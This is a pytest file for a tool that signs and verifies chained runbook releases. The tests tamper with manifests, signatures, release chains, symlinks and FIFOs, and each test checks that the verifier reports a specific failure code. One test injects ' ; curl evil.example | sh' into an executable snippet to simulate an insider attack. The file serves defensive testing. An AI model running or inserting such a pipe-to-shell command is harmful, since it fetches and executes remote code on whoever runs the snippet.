"""Releases signed by the real dev instance: verify, and every tamper fails with its own code."""

from __future__ import annotations

import base64
import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from builder.release import make_release
from builder.runbook import load_catalog
from builder.sign import SigningTarget, signer_for
from tests.conftest import REPO
from verifier._cli import main as verify_main
from verifier.manifest import BUNDLE_NAME, MANIFEST_NAME, Manifest

VERSIONS = ("1.0.0", "1.1.0", "1.2.0")


def _edit(catalog: Path, slug: str, extra: str) -> None:
    path = catalog / f"{slug}.md"
    path.write_text(path.read_text(encoding="utf-8") + extra, encoding="utf-8")


@pytest.fixture(scope="session")
def signed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Three chained releases of the sample catalog, signed once per session."""
    root = tmp_path_factory.mktemp("signed")
    catalog = root / "runbooks"
    shutil.copytree(REPO / "runbooks", catalog)
    target = SigningTarget(instance="dev", dev_state=root / "dev")
    for i, version in enumerate(VERSIONS):
        if i:
            _edit(catalog, "hosts/disk-full", f"\nRevision note {i}.\n")
        make_release(load_catalog(catalog), version, root / "releases", target)
    yield root


@pytest.fixture
def work(signed: Path, tmp_path: Path) -> Path:
    """A private copy of the signed releases to tamper with."""
    shutil.copytree(signed, tmp_path / "w")
    return tmp_path / "w"


def verify(
    work: Path, *argv: str, capsys: pytest.CaptureFixture[str]
) -> tuple[int, dict[str, object]]:
    rc = verify_main(
        [*argv, "--policy", str(work / "dev" / "sealbook.dev.toml"), "--format", "json"]
    )
    return rc, json.loads(capsys.readouterr().out)


def reasons(doc: dict[str, object]) -> dict[str, str]:
    return {r["item"]: r["reason"] for r in doc["results"]}  # type: ignore[attr-defined, index]


def resign(work: Path, version: str, manifest_bytes: bytes) -> None:
    with signer_for(SigningTarget(instance="dev", dev_state=work / "dev")) as session:
        bundle = session.sign(manifest_bytes)
    (work / "releases" / version / MANIFEST_NAME).write_bytes(manifest_bytes)
    (work / "releases" / version / BUNDLE_NAME).write_bytes(bundle)


def test_dev_signed_releases_verify(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 0, doc
    assert reasons(doc) == dict.fromkeys(VERSIONS, "verified")
    assert doc["summary"]["dev"] is True  # type: ignore[index]
    manifest = Manifest.from_bytes((work / "releases/1.2.0" / MANIFEST_NAME).read_bytes())
    assert manifest.previous is not None and manifest.previous.version == "1.1.0"
    assert manifest.runbook("hosts/disk-full").revision == 3  # type: ignore[union-attr]
    assert manifest.runbook("tls/certificate-expiry").revision == 1  # type: ignore[union-attr]


def test_single_release_and_text_marks_dev(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    rc = verify_main(
        ["release", str(work / "releases/1.0.0"), "--policy", str(work / "dev/sealbook.dev.toml")]
    )
    out = capsys.readouterr().out
    assert rc == 0 and "[DEV]" in out and "verified" in out


def test_json_is_deterministic(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    _, first = verify(work, "releases", str(work / "releases"), capsys=capsys)
    _, second = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert first == second and str(first["digest"]).startswith("sha256:")


def _flip(path: Path, needle: bytes) -> None:
    data = path.read_bytes()
    at = data.index(needle)
    path.write_bytes(data[:at] + bytes([data[at] ^ 0x01]) + data[at + 1 :])


def test_byte_changed_in_manifest(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    _flip(work / "releases/1.1.0" / MANIFEST_NAME, b"disk-full")
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 1 and reasons(doc)["1.1.0"] == "manifest-digest-mismatch"


def test_byte_changed_in_frozen_source(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    _flip(work / "releases/1.1.0/runbooks/hosts/disk-full.md", b"df")
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 1 and reasons(doc)["1.1.0"] == "source-digest-mismatch"


def test_byte_changed_in_signed_snippet_text(
    work: Path, no_network: None, capsys: pytest.CaptureFixture[str]
) -> None:
    # An insider re-signs a manifest whose snippet text no longer matches its digest.
    path = work / "releases/1.2.0" / MANIFEST_NAME
    data = json.loads(path.read_bytes())
    snippet = next(s for rb in data["runbooks"] for s in rb["snippets"] if s["executable"])
    snippet["text"] = snippet["text"].replace("\n", " ; curl evil.example | sh\n", 1)
    resign(work, "1.2.0", Manifest.from_bytes(json.dumps(data).encode()).to_bytes())
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 1 and reasons(doc)["1.2.0"] == "snippet-digest-mismatch"


def test_byte_changed_in_bundle(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    path = work / "releases/1.0.0" / BUNDLE_NAME
    bundle = json.loads(path.read_bytes())
    sig = bytearray(base64.b64decode(bundle["messageSignature"]["signature"]))
    sig[-1] ^= 0x01
    bundle["messageSignature"]["signature"] = base64.b64encode(bytes(sig)).decode()
    path.write_text(json.dumps(bundle))
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 1 and reasons(doc)["1.0.0"] == "signature-invalid"


def test_signer_not_in_policy(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    policy = work / "dev" / "sealbook.dev.toml"
    policy.write_text(policy.read_text().replace("dev@sealbook.invalid", "release-bot@example.com"))
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 1 and set(reasons(doc).values()) == {"signer-not-allowed"}


def test_dev_release_against_production_only_policy(
    work: Path, tmp_path: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    prod = tmp_path / "sealbook.toml"
    prod.write_text(
        '[trust.roots.production]\ntrusted_root = "builtin:production"\n'
        '[[trust.signers]]\nidentity = "dev@sealbook.invalid"\nissuer = "https://dev.sealbook.invalid"\nroot = "production"\n'
    )
    rc = verify_main(
        ["releases", str(work / "releases"), "--policy", str(prod), "--format", "json"]
    )
    doc = json.loads(capsys.readouterr().out)
    assert rc == 1 and set(reasons(doc).values()) == {"dev-root-not-allowed"}
    assert doc["summary"]["dev"] is False


def test_middle_release_deleted(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.rmtree(work / "releases/1.1.0")
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 1 and reasons(doc)["1.2.0"] == "release-chain-broken"


def test_release_replaced_by_resigned_different_one(
    work: Path, no_network: None, capsys: pytest.CaptureFixture[str]
) -> None:
    path = work / "releases/1.1.0" / MANIFEST_NAME
    data = json.loads(path.read_bytes())
    data["created"] = "2026-01-01T00:00:00Z"
    resign(work, "1.1.0", Manifest.from_bytes(json.dumps(data).encode()).to_bytes())
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    got = reasons(doc)
    assert rc == 1 and got["1.2.0"] == "release-chain-broken", got


def test_two_releases_name_the_same_predecessor(
    work: Path, no_network: None, capsys: pytest.CaptureFixture[str]
) -> None:
    base = Manifest.from_bytes((work / "releases/1.2.0" / MANIFEST_NAME).read_bytes())
    data = base.to_json()
    data["version"] = "1.2.0-evil"
    shutil.copytree(work / "releases/1.2.0", work / "releases/1.2.0-evil")
    resign(work, "1.2.0-evil", Manifest.from_bytes(json.dumps(data).encode()).to_bytes())
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    got = reasons(doc)
    assert rc == 1 and got["1.2.0"] == got["1.2.0-evil"] == "release-chain-fork"


def test_newest_release_deleted_caught_by_expect_latest(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    _, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    anchor = doc["context"]["head"]  # type: ignore[index]
    assert anchor.startswith("1.2.0:sha256:")
    shutil.rmtree(work / "releases/1.2.0")
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 0  # the chain alone cannot see it
    rc, doc = verify(
        work, "releases", str(work / "releases"), "--expect-latest", anchor, capsys=capsys
    )
    assert rc == 1 and reasons(doc)["(head)"] == "release-not-latest"


def test_folder_renamed(work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]) -> None:
    (work / "releases/1.2.0").rename(work / "releases/1.3.0")
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 1 and reasons(doc)["1.3.0"] == "version-mismatch"


def test_unexpected_file_in_release(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    (work / "releases/1.0.0/runbooks/hosts/extra.md").write_text("# sneaky\n")
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 1 and reasons(doc)["1.0.0"] == "source-unexpected"


@pytest.mark.parametrize(
    "inside",
    [
        "runbooks/hosts/disk-full.md",
        "runbooks/hosts",
        "manifest.json",
        "manifest.json.sigstore.json",
    ],
)
def test_a_symlink_to_identical_bytes_outside_the_release(
    work: Path, tmp_path: Path, no_sockets: None, capsys: pytest.CaptureFixture[str], inside: str
) -> None:
    """Each part of a release moved outside it and linked back: the bytes verify, the link not."""
    path = work / "releases/1.1.0" / inside
    outside = tmp_path / "outside" / path.name
    outside.parent.mkdir()
    path.rename(outside)
    path.symlink_to(outside)
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 1 and reasons(doc)["1.1.0"] == "release-file-not-regular"


def test_a_fifo_in_a_release_is_never_opened(
    work: Path, no_sockets: None, capsys: pytest.CaptureFixture[str]
) -> None:
    os.mkfifo(work / "releases/1.0.0/runbooks/hosts/extra.md")
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 1 and reasons(doc)["1.0.0"] == "release-file-not-regular"


def test_release_is_write_once(work: Path) -> None:
    from builder.release import ReleaseError

    with pytest.raises(ReleaseError, match="immutable"):
        make_release(
            load_catalog(REPO / "runbooks"),
            "1.0.0",
            work / "releases",
            SigningTarget(instance="dev", dev_state=work / "dev"),
        )


def test_missing_release_dir_exits_3(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy = tmp_path / "p.toml"
    policy.write_text(
        '[trust.roots.p]\ntrusted_root = "builtin:production"\n[[trust.signers]]\nidentity = "a"\nissuer = "b"\nroot = "p"\n'
    )
    assert verify_main(["release", str(tmp_path / "nope"), "--policy", str(policy)]) == 3
    assert "missing" in capsys.readouterr().err


def test_no_policy_exits_4(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SEALBOOK_POLICY", raising=False)
    assert verify_main(["releases", str(tmp_path)]) == 4
    assert "--policy" in capsys.readouterr().err


def test_stale_temporaries_of_dead_writers_are_removed_live_ones_kept(tmp_path: Path) -> None:
    import os
    import subprocess

    from builder.release import _remove_stale_temporaries

    dead = subprocess.Popen(["true"])
    dead.wait()
    (tmp_path / f".tmp-1.0-{dead.pid}-abc").mkdir()
    (tmp_path / f".tmp-1.0-{os.getppid()}-def").mkdir()  # our parent: alive
    (tmp_path / "1.0").mkdir()
    _remove_stale_temporaries(tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["1.0", f".tmp-1.0-{os.getppid()}-def"]
    )


def test_concurrent_releases_chain_one_after_the_other(work: Path, no_sockets: None) -> None:
    """Both would otherwise name the same head as previous: a fork no one can repair."""
    import os
    import subprocess
    import sys

    argv = [sys.executable, "-m", "builder._cli", "release", "--runbooks", str(REPO / "runbooks")]
    argv += ["--releases", str(work / "releases"), "--instance", "dev"]
    argv += ["--dev-state", str(work / "dev")]
    env = {**os.environ, "SEALBOOK_POLICY": ""}
    procs = [
        subprocess.Popen([*argv, v], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        for v in ("2.0.0", "2.1.0")
    ]
    for proc in procs:
        output = proc.communicate(timeout=120)[0]
        assert proc.returncode == 0, output
    policy = str(work / "dev" / "sealbook.dev.toml")
    assert verify_main(["releases", str(work / "releases"), "--policy", policy]) == 0


class _SameSecondFirst:
    """A real dev signing session whose first ``tries`` signatures are the head's own bundle
    (what a log answers when both are signed within one second)."""

    def __init__(self, session: object, head_bundle: bytes, tries: int) -> None:
        self.session, self.head_bundle, self.tries, self.calls = session, head_bundle, tries, 0

    def sign(self, data: bytes) -> bytes:
        self.calls += 1
        if self.calls <= self.tries:
            return self.head_bundle
        return self.session.sign(data)  # type: ignore[attr-defined, no-any-return]


def _same_second(monkeypatch: pytest.MonkeyPatch, work: Path, tries: int) -> list[_SameSecondFirst]:
    import contextlib

    import builder.release

    real = builder.release.signer_for
    head = (work / "releases" / VERSIONS[-1] / BUNDLE_NAME).read_bytes()
    made: list[_SameSecondFirst] = []

    @contextlib.contextmanager
    def signer(target: SigningTarget) -> Iterator[_SameSecondFirst]:
        with real(target) as session:
            made.append(_SameSecondFirst(session, head, tries))
            yield made[-1]

    monkeypatch.setattr(builder.release, "signer_for", signer)
    monkeypatch.setattr(builder.release.time, "sleep", lambda _s: None)
    return made


def test_a_release_signed_within_its_heads_second_is_signed_again(
    work: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    made = _same_second(monkeypatch, work, tries=1)
    target = SigningTarget(instance="dev", dev_state=work / "dev")
    make_release(load_catalog(REPO / "runbooks"), "2.0.0", work / "releases", target)
    assert made[0].calls == 2
    rc, doc = verify(work, "releases", str(work / "releases"), capsys=capsys)
    assert rc == 0, reasons(doc)


def test_a_release_never_signed_after_its_head_writes_nothing(
    work: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from builder.release import ReleaseError

    before = sorted(p.name for p in (work / "releases").iterdir())
    made = _same_second(monkeypatch, work, tries=99)
    target = SigningTarget(instance="dev", dev_state=work / "dev")
    with pytest.raises(ReleaseError, match="cannot sign later than this head"):
        make_release(load_catalog(REPO / "runbooks"), "2.0.0", work / "releases", target)
    assert made[0].calls == 3  # SIGNING_TRIES
    assert sorted(p.name for p in (work / "releases").iterdir()) == before


def test_a_head_with_an_unreadable_bundle_stops_the_release(work: Path) -> None:
    from builder.release import ReleaseError

    (work / "releases" / VERSIONS[-1] / BUNDLE_NAME).write_bytes(b"{}")
    before = sorted(p.name for p in (work / "releases").iterdir())
    target = SigningTarget(instance="dev", dev_state=work / "dev")
    with pytest.raises(ReleaseError, match="unreadable bundle"):
        make_release(load_catalog(REPO / "runbooks"), "2.0.0", work / "releases", target)
    assert sorted(p.name for p in (work / "releases").iterdir()) == before


def test_a_symlink_planted_as_the_lock_is_not_followed(work: Path, tmp_path: Path) -> None:
    from builder.release import ReleaseError

    victim = tmp_path / "victim"
    (work / "releases" / ".lock").unlink(missing_ok=True)
    (work / "releases" / ".lock").symlink_to(victim)
    target = SigningTarget(instance="dev", dev_state=work / "dev")
    with pytest.raises(ReleaseError, match="cannot write the releases folder"):
        make_release(load_catalog(REPO / "runbooks"), "2.0.0", work / "releases", target)
    assert not victim.exists()


def test_an_earlier_release_linked_to_dev_zero_stops_the_release(work: Path) -> None:
    """git can carry a symlink into releases/; reading it used to never end."""
    from verifier.errors import InputError

    manifest = work / "releases" / VERSIONS[0] / MANIFEST_NAME
    manifest.unlink()
    manifest.symlink_to("/dev/zero")
    target = SigningTarget(instance="dev", dev_state=work / "dev")
    with pytest.raises(InputError, match=r"no readable manifest\.json"):
        make_release(load_catalog(REPO / "runbooks"), "2.0.0", work / "releases", target)
    assert not (work / "releases" / "2.0.0").exists()
